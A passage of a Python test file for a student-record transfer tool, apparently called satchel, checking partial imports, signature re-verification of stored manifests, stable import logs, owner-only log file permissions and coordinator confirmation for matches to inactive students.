    tid = _send_accept(a, b, "100001", "300001", "300002", extra=("--all-records",))
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    # A real constraint, as a damaged or hand-edited database might have: 300001's results cannot be written,
    # after its student row and its document were.
    with sqlite3.connect(b.home / "satchel.db") as conn:
        conn.execute("CREATE TRIGGER refuse BEFORE INSERT ON assessment_results WHEN NEW.student_sis_id LIKE "
                     "'%300001' BEGIN SELECT RAISE(ABORT, 'refused by the test'); END")  # fmt: skip
    first = _json(b, "import", "run", tid, "--as", "coord", "--json")
    assert first["result"] == "partial (2 of 3)"
    assert "refused by the test" in {s["student"]: s["reason"] for s in first["skipped"]}["300001"]
    assert _json(b, "students", "search", "okonkwo", "--json") == []  # 300001: nothing of it stayed
    with sqlite3.connect(b.home / "satchel.db") as conn:
        assert conn.execute("SELECT count(*) FROM documents").fetchone()[0] == 0
        assert (
            conn.execute(
                "SELECT count(*) FROM imported_records WHERE student_sis_id LIKE '%300001'"
            ).fetchone()[0]
            == 0
        )
        conn.execute("DROP TRIGGER refuse")
    assert len(_json(b, "students", "search", "alvarez", "--json")) == 1
    assert _json(b, "assessments", "list", "100001", "--json")[0]["percentile"] == "40"
    assert "hash chain verified" in b.cli("audit", "verify").stdout

    second = _json(b, "import", "run", tid, "--as", "coord", "--json")
    assert second["result"] == "imported with no changes" and second["imported"] == 3
    [landed] = _json(b, "students", "search", "okonkwo", "--json")
    assert len(_json(b, "documents", "list", landed["sis_id"], "--json")) == 1
    assert "hash chain verified" in b.cli("audit", "verify").stdout


def test_stored_manifests_are_verified_every_time_and_checked_once(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    tid = _send_accept(a, b, "100001")
    db = b.home / "satchel.db"
    with sqlite3.connect(db) as conn:
        [(stored,)] = conn.execute(
            "SELECT manifest FROM transfer_manifests WHERE transfer_id = ?", [tid]
        ).fetchall()
        marks = [m for (m,) in conn.execute("SELECT sha256 FROM checked_manifests")]
    assert marks == [hashlib.sha256(stored).hexdigest()]  # accept parsed it with every check

    # A mark vouches for a structure, never for a signature: changed bytes, even marked, are refused.
    changed = stored.replace(b"a.example.org", b"z.example.org", 1)
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE transfer_manifests SET manifest = ? WHERE transfer_id = ?", [changed, tid])
        conn.execute("INSERT INTO checked_manifests VALUES (?, 'now')", [hashlib.sha256(changed).hexdigest()])
    refused = b.cli("import", "preview", tid, "--school", "0101", "--as", "coord", ok=False)
    assert refused.exit_code != 0 and "manifest.signature_invalid" in refused.stderr

    # Without a mark (a transfer accepted by an older version) the bytes get every check, then are marked.
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE transfer_manifests SET manifest = ? WHERE transfer_id = ?", [stored, tid])
        conn.execute("DELETE FROM checked_manifests")
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM checked_manifests").fetchone()[0] == 1
    assert _json(b, "import", "run", tid, "--as", "coord", "--json")["imported"] == 1


def test_an_import_that_imports_no_one_exits_1(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    tid = _send_accept(a, b, "100001")
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    b.cli("import", "match", tid, "100001", "--later", "--as", "coord")
    failed = b.cli("import", "run", tid, "--as", "coord", ok=False)
    assert failed.exit_code == 1 and failed.stdout.startswith("Failed: 0 of 1 students.")


def test_the_log_shows_the_student_here_as_the_import_left_it(pair, tmp_path: Path) -> None:
    """Found left over: the log's destination columns were read from the students table whenever it was viewed,
    so a roster update after the import rewrote what the log said was imported; and its source columns from the
    manifest, verified against the sender's keys of the day."""
    from fixtures_oneroster import SAMPLE_STUDENTS

    a, b, _ = pair
    a.cli("roster", "import", str(write_bundle(tmp_path / "more", make_bundle(NEWCOMERS))), "--as", "coord")
    tid = _send_accept(a, b, "100001", "300001")
    b.cli("import", "preview", tid, "--school", "Lincoln Middle School", "--as", "coord")
    assert _json(b, "import", "run", tid, "--as", "coord", "--json")["imported"] == 2

    def logged() -> dict[str, dict[str, str]]:
        log = tmp_path / "log.csv"
        b.cli("import", "log", tid, "--csv", str(log))
        as_json = {r["SourceStudentId"]: r for r in _json(b, "import", "log", tid, "--json")}
        in_csv = {r["SourceStudentId"]: r for r in csv.DictReader(log.open())}
        assert {k: {c: str(v) for c, v in r.items()} for k, r in as_json.items()} == in_csv
        return in_csv

    columns = ("DestinationStudentId", "DestinationStateId", "DestinationUsername", "DestinationEmail")
    # Written over a file others may read (made by another program): it holds students' names, so it is
    # made the owner's alone, as a new one is.
    (tmp_path / "log.csv").write_text("old\n" * 1000)
    (tmp_path / "log.csv").chmod(0o644)
    before = logged()
    assert (tmp_path / "log.csv").stat().st_mode & 0o777 == 0o600
    assert [before["100001"][c] for c in columns] == ["100001", "9000000101", "amartinez",
                                                      "ava.martinez@students.example.org"]  # fmt: skip
    created = before["300001"]
    assert created["DestinationStudentId"] != "" and created["DestinationStateId"] == "9000000901"
    assert (created["DestinationUsername"], created["DestinationEmail"]) == ("", "")  # no account here yet
    # B's SIS gives Ava a new account and state id afterwards: the students table changes, the log does not.
    changed = [{**s, "username": "ava.m", "email": "ava.m@b.example.org", "state_id": "9000000199"}
               if s["sis_id"] == "100001" else s for s in SAMPLE_STUDENTS]  # fmt: skip
    b.cli("roster", "import", str(write_bundle(tmp_path / "b-new", make_bundle(changed))), "--as", "coord")
    ava = _json(b, "students", "show", "100001", "--json")["student"]
    assert (ava["username"], ava["email"], ava["state_id"]) == ("ava.m", "ava.m@b.example.org", "9000000199")
    assert logged() == before
    text = b.cli("import", "log", tid).stdout
    assert "9000000101" in text and "9000000199" not in text
    # Students previewed before the log kept what was sent: read from the manifest, as before.
    sent = "sent_given_name, sent_family_name, sent_grade, sent_state_id, sent_username, sent_email"
    with sqlite3.connect(b.home / "satchel.db") as conn:
        kept = conn.execute(f"SELECT {sent}, sender_sis_id FROM import_students WHERE import_id = ?", [tid]).fetchall()
        conn.execute(f"UPDATE import_students SET ({sent}) = (NULL, NULL, NULL, NULL, NULL, NULL)")
    assert logged() == before
    with sqlite3.connect(b.home / "satchel.db") as conn:
        conn.executemany(f"UPDATE import_students SET ({sent}) = (?, ?, ?, ?, ?, ?) WHERE sender_sis_id = ?", kept)
    # Nor does the log need the keys A publishes now: forgotten on a re-pin after a key change, the log could
    # not be shown at all ("no key of a.example.org verifies the manifest").
    from node.home import open_node
    from storage import peers

    with open_node(b.home, b.env) as node:
        peers.forget_identity_keys(node.db, "a.example.org")
    assert logged() == before


def test_a_student_matched_to_one_inactive_here_is_imported_only_once_a_coordinator_confirms(
    pair, tmp_path: Path
) -> None:
    from fixtures_oneroster import SAMPLE_STUDENTS

    a, b, _ = pair
    # Jordan (100004) is inactive at B (left the district); Ava (100001) is active at B until the preview is done.
    tid = _send_accept(a, b, "100001", "100004")
    preview = b.cli("import", "preview", tid, "--as", "coord")
    # Was "2 matched" and nothing else: records would have landed on a child who left, unseen.
    assert "0 new, 1 matched, 1 uncertain" in preview.stdout
    assert ("Warning: incoming student 100004 matches 100004, who is marked inactive since "
            in preview.stderr)  # fmt: skip
    assert f"`satchel import match {tid} 100004 --to 100004`" in preview.stderr
    shown = _json(b, "import", "preview", tid, "--as", "coord", "--json")
    (flagged,) = shown["inactive_matches"]
    assert (flagged["student"], flagged["local_sis_id"], flagged["confirmed"]) == ("100004", "100004", False)
    assert flagged["inactive_since"][:4].isdigit()
    review = {r["sender_sis_id"]: r for r in _json(b, "import", "review", tid, "--json")}
    assert review["100004"]["match_status"] == "uncertain" and review["100004"]["proposed_sis_id"] == "100004"
    assert review["100004"]["reasons"][0].startswith("local student 100004 is marked inactive here since")
    # Ava leaves B's roster before the import runs: the match made at preview is not taken without a person.
    staying = [s for s in SAMPLE_STUDENTS if s["sis_id"] != "100001"]
    b.cli("roster", "import", str(write_bundle(tmp_path / "b-night", make_bundle(staying))), "--as", "coord")
    failed = b.cli("import", "run", tid, "--as", "coord", "--json", ok=False)
    first = json.loads(failed.stdout)
    assert (failed.exit_code, first["imported"]) == (1, 0)
    skipped = {s["student"]: s["reason"] for s in first["skipped"]}
    assert skipped == {"100001": "needs review: local student 100001 is marked inactive here",
                       "100004": "needs review: the match is uncertain"}  # fmt: skip
    assert {m["student"] for m in _json(b, "import", "preview", tid, "--as", "coord", "--json")["inactive_matches"]} \
        == {"100001", "100004"}  # fmt: skip
    # The coordinator checks: both are the children who left, returning. Linked, the import takes them.
    for sis_id in ("100001", "100004"):
        linked = b.cli("import", "match", tid, sis_id, "--to", sis_id, "--as", "coord")
        assert f"Note: {sis_id} is marked inactive here since" in linked.stderr
    confirmed = _json(b, "import", "preview", tid, "--as", "coord", "--json")["inactive_matches"]
    assert [m["confirmed"] for m in confirmed] == [True, True]
    second = _json(b, "import", "run", tid, "--as", "coord", "--json")
    assert (second["imported"], second["total"]) == (2, 2)
